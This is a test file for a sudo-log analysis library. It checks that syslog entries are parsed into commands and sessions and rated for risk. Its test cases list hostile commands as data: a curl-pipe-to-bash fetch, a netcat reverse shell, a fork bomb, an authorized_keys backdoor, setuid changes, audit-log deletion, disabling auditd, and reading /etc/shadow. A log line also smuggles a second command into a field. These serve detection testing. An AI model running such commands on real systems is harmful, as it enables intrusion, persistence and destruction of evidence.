import { Frame } from '@casebook/core';
import { SUDO_RISKS, sudoCommands, sudoSessions } from '@casebook/analysis';

const syslog = (lines: readonly (readonly [time: string | null, message: string])[]): Frame =>
  Frame.fromRows(
    [
      { name: 'TimeGenerated', type: 'datetime' },
      { name: 'Computer', type: 'string' },
      { name: 'SyslogMessage', type: 'string' },
    ],
    lines.map(([time, SyslogMessage]) => ({
      TimeGenerated: time && `2026-09-01T${time}Z`,
      Computer: 'lx',
      SyslogMessage,
    })),
  );

const run = (command: string): string =>
  `     bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=${command}`;

const LINES = syslog([
  ['10:00:00', run('/usr/bin/apt update')],
  ['10:05:00', run('/bin/cat /etc/shadow')],
  ['10:05:01', 'bob : (command continued) --and more'],
  ['10:06:00', 'bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/id'],
  [
    '11:00:00',
    'eve : TTY=unknown ; PWD=/x ; COMMAND=/bin/true ; USER=www ; GROUP=adm ; ENV=A=1 ; COMMAND=/bin/bash',
  ],
  ['11:30:00', run('/usr/bin/id')],
  ['11:30:00', 'pam_unix(sudo:session): session opened for user root by bob(uid=0)'],
  ['11:31:00', 'eve : command of no terminal'],
  [null, run('/usr/bin/id')],
]);

it('reads commands, who ran them, where and why they were refused', () => {
  const frame = sudoCommands(LINES);
  expect(frame.projectAway('TimeGenerated', 'Computer').toTable().rows).toEqual([
    ['bob', 'root', 'pts/0', '/home/bob', '/usr/bin/apt update', '', false, false, []],
    [
      'bob',
      'root',
      'pts/0',
      '/home/bob',
      '/bin/cat /etc/shadow --and more',
      '',
      false,
      false,
      ['credentials'],
    ],
    ['bob', 'root', 'pts/0', '/tmp', '/usr/bin/id', 'user NOT in sudoers', true, false, []],
    [
      'eve',
      '',
      'unknown',
      '/x',
      '/bin/true ; USER=www ; GROUP=adm ; ENV=A=1 ; COMMAND=/bin/bash',
      '',
      false,
      true,
      [],
    ],
    ['bob', 'root', 'pts/0', '/home/bob', '/usr/bin/id', '', false, false, []],
  ]);
  expect(frame.notices).toHaveLength(1);
});

it('folds commands into sessions and says which are risky', () => {
  const burst = syslog(Array.from({ length: 10 }, (_, at) => [`12:00:0${at >> 1}`, run('/bin/ls')] as const));
  const rows = sudoSessions(LINES.union(burst)).rows();
  expect(
    rows.map((row) => [
      row['User'],
      String(row['Start']).slice(11, 16),
      row['Commands'],
      row['Refused'],
      row['Risks'],
    ]),
  ).toEqual([
    ['bob', '10:00', 3, 1, ['credentials']],
    ['eve', '11:00', 1, 0, []],
    ['bob', '11:30', 1, 0, []],
    ['bob', '12:00', 10, 0, ['burst']],
  ]);
  expect(rows[0]).toMatchObject({
    RunAs: ['root'],
    CommandList: ['/usr/bin/apt update', '/bin/cat /etc/shadow --and more', '/usr/bin/id'],
    RiskyCommands: ['/bin/cat /etc/shadow --and more'],
  });
  expect(sudoSessions(LINES, { maxPause: '2h' }).values('Commands')).toEqual([4, 1]);
});

it.each([
  ['/usr/bin/tee -a /root/.ssh/authorized_keys', ['authorized_keys']],
  ['/bin/sh -c curl http://x/a | bash', ['download_and_run', 'shell']],
  ['/bin/sh -c echo aWQ= | base64 -d | sh', ['download_and_run', 'shell']],
  ['/usr/bin/curl http://x/publish', []],
  ['/bin/bash -c :(){ :|:& };:', ['fork_bomb', 'shell']],
  ['/bin/mv /var/log/auth.log /dev/null', ['to_dev_null']],
  ['/bin/bash', ['shell']],
  ['/bin/su -', ['shell']],
  ['/usr/bin/vim /etc/sudoers.d/x', ['sudoers']],
  ['/usr/sbin/usermod -aG sudo bob', ['account']],
  ['/bin/chmod u+s /tmp/x', ['setuid']],
  ['/bin/chmod 4755 /tmp/x', ['setuid']],
  ['/bin/chmod 755 /tmp/x', []],
  ['/usr/bin/nc 10.0.0.1 9 -e /bin/sh', ['reverse_shell']],
  ['/bin/rm -rf /var/log/audit', ['log_tampering']],
  ['/bin/systemctl stop auditd', ['defences_off']],
  ['/bin/systemctl status nginx', []],
  ['/usr/sbin/iptables -F', ['defences_off']],
])('rates %j', (command, names) => {
  expect(SUDO_RISKS.filter(({ test }) => test(command)).map(({ name }) => name)).toEqual(names);
});

it.each(['curl ', 'wget|', '|sh', 'mv ', '/dev/null', 'chmod ', 'nc ', ' +s', '/var/log', 'x ; COMMAND='])(
  'reads a megabyte of %j in linear time',
  (piece) => {
    const started = performance.now();
    sudoCommands(syslog([['10:00:00', run(piece.repeat(2 ** 20 / piece.length))]]));
    expect(performance.now() - started).toBeLessThan(3000);
  },
);

it('answers nothing with nothing', () => {
  expect(sudoSessions(syslog([])).columns).toEqual(sudoSessions(LINES).columns);
  expect(sudoCommands(syslog([])).columns).toEqual(sudoCommands(LINES).columns);
});
